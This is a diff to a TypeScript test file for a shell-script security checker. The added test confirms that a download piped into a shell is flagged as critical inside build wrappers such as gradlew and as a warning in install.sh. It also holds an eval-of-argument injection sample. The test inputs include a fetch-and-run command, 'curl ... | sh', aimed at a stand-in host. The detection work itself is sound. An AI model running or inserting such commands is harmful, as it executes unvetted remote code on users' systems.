@@ -4,6 +4,16 @@ import { judgeShell } from '../../../../reviewers/security/shell/judge-shell.ts'
 const rules = (text: string): string[] =>
   judgeShell(text, 'a.sh').hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim());
 
+test('a download that a wrapper pipes into a shell is critical: its tool writes no such thing', () => {
+  const graveness = (path: string) =>
+    judgeShell('curl -s https://x.example/i.sh | sh\n', path).hazards.map(({ severity }) => severity);
+  expect([graveness('gradlew'), graveness('sub/mvnw'), graveness('install.sh')]).toEqual([
+    ['critical'],
+    ['critical'],
+    ['warning'],
+  ]);
+});
+
 describe('values that are read as code', () => {
   test.each([
     ['eval "$1"', ['command-injection suggestion']],
